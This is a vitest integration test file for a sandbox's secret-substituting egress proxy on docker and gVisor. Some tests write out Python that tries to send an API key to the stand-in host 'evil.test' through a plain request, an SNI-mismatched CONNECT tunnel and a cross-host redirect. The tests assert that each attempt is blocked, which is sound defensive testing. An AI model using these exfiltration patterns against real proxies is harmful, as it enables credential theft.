/**
 * Issue 18 on runc and runsc: the container's environment holds the placeholder, the egress proxy puts the
 * value in toward the secret's host only, over plain HTTP and over HTTPS (the proxy terminates TLS with the
 * sandbox's own CA, which the container trusts; upstream it verifies the server through
 * network.caCertificates), scrubs responses, and keeps the CONNECT/SNI check.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { SandboxManager, type ExecResult, type Sandbox } from '../../../src/index.js'
import { ensureImage } from '../container/helpers.js'
import {
  SECRET_HOST,
  SECRET_VALUE,
  secretConfig,
  startSecretServers,
  type SecretServers,
} from './secret-servers.js'

let servers: SecretServers
let manager: SandboxManager

beforeAll(async () => {
  ensureImage()
  servers = await startSecretServers()
  manager = new SandboxManager()
})
afterAll(async () => {
  await manager.close()
  await servers.close()
})

const PY_FETCH = (url: string, header = 'x-api-key'): string => `
import os, urllib.request, json
req = urllib.request.Request(${JSON.stringify(url)}, headers={${JSON.stringify(header)}: os.environ['API_KEY']})
with urllib.request.urlopen(req, timeout=20) as res:
    body = res.read().decode()
    print(json.dumps({'status': res.status, 'echoed': os.environ['API_KEY'] in body, 'header': res.headers.get('x-echo') == os.environ['API_KEY'], 'body': body}))
`

describe.each(['docker', 'gvisor'] as const)('%s', (type) => {
  let sb: Sandbox
  let H = 0
  let T = 0
  beforeAll(async () => {
    ;({ http: H, https: T } = servers.ports)
    sb = await manager.create({ type, ...secretConfig(servers.ports) })
  })
  const py = async (code: string): Promise<ExecResult> => {
    const result = await sb.execute({ code, language: 'python' })
    expect(JSON.stringify(result)).not.toContain(SECRET_VALUE)
    return result
  }
  const out = (r: ExecResult): Record<string, unknown> =>
    JSON.parse(r.stdout.trim().split('\n').at(-1) ?? '{}') as Record<string, unknown>

  it('I18-14: the environment (and /proc/self/environ) holds the placeholder, never the value', async () => {
    const r = await py(
      `import os; print(os.environ['API_KEY']); print(open('/proc/self/environ','rb').read().decode(errors='replace'))`,
    )
    expect(r.stdout).toMatch(/^SANDTIER_SECRET_API_KEY_[0-9a-f]{32}\n/)
  })

  it('I18-15: HTTP through the proxy: the secret host gets the value, the echo is scrubbed', async () => {
    const r = await py(PY_FETCH(`http://${SECRET_HOST}:${H}/echo`))
    expect(out(r)).toMatchObject({ status: 200, echoed: true, header: true })
    expect(servers.seen.at(-1)?.raw).toContain(`x-api-key: ${SECRET_VALUE}`)
    expect(r.usage.secretsBlocked).toBe(0)
  })

  it('I18-16: HTTP to a host that is not listed carries the placeholder, counted', async () => {
    const r = await py(PY_FETCH(`http://evil.test:${H}/echo`))
    expect(out(r)).toMatchObject({ status: 200, echoed: true })
    expect(servers.receivedExceptBy(SECRET_HOST)).not.toContain(SECRET_VALUE)
    expect(r.usage.secretsBlocked).toBe(1)
  })

  it('I18-17: HTTPS (python): the proxy terminates TLS for the secret host, substitutes and scrubs', async () => {
    const r = await py(PY_FETCH(`https://${SECRET_HOST}:${T}/echo`))
    expect(out(r)).toMatchObject({ status: 200, echoed: true, header: true })
    expect(servers.seen.at(-1)).toMatchObject({ secure: true, host: SECRET_HOST })
    expect(servers.seen.at(-1)?.raw).toContain(`x-api-key: ${SECRET_VALUE}`)
  })

  it('I18-18: HTTPS (node fetch) through the terminated tunnel', async () => {
    const r = await sb.execute({
      code: `const res = await fetch('https://${SECRET_HOST}:${T}/echo', { headers: { 'x-api-key': process.env.API_KEY } })
const body = await res.json()
console.log(JSON.stringify({ status: res.status, same: body.headers['x-api-key'] === process.env.API_KEY }))`,
      language: 'javascript',
    })
    expect(JSON.stringify(r)).not.toContain(SECRET_VALUE)
    expect(out(r)).toEqual({ status: 200, same: true })
    expect(servers.seen.at(-1)?.raw).toContain(`x-api-key: ${SECRET_VALUE}`)
  })

  it('I18-19: a CONNECT whose SNI differs from its host is refused before any byte goes out', async () => {
    const before = servers.seen.length
    const r = await py(`
import os, socket, ssl
s = socket.create_connection(('127.0.0.1', 3128), timeout=10)
s.sendall(b'CONNECT ${SECRET_HOST}:${T} HTTP/1.1\\r\\nHost: ${SECRET_HOST}:${T}\\r\\n\\r\\n')
head = s.recv(4096)
ctx = ssl.create_default_context()
try:
    t = ctx.wrap_socket(s, server_hostname='evil.test')
    t.sendall(b'GET /echo HTTP/1.1\\r\\nHost: evil.test\\r\\nx-api-key: ' + os.environ['API_KEY'].encode() + b'\\r\\n\\r\\n')
    print('sent', t.recv(4096))
except Exception as e:
    print('refused', type(e).__name__)
`)
    expect(r.stdout).toMatch(/^refused /m)
    expect(servers.seen.length).toBe(before)
  })

  it('I18-20: a redirect from the secret host to another host carries only the placeholder', async () => {
    const to = encodeURIComponent(`http://evil.test:${H}/landed`)
    const r = await py(PY_FETCH(`http://${SECRET_HOST}:${H}/redirect?to=${to}`))
    expect(out(r)).toMatchObject({ status: 200 })
    expect(servers.seen.at(-1)?.raw).toMatch(/^GET \/landed/)
    expect(servers.receivedExceptBy(SECRET_HOST)).not.toContain(SECRET_VALUE)
  })
})
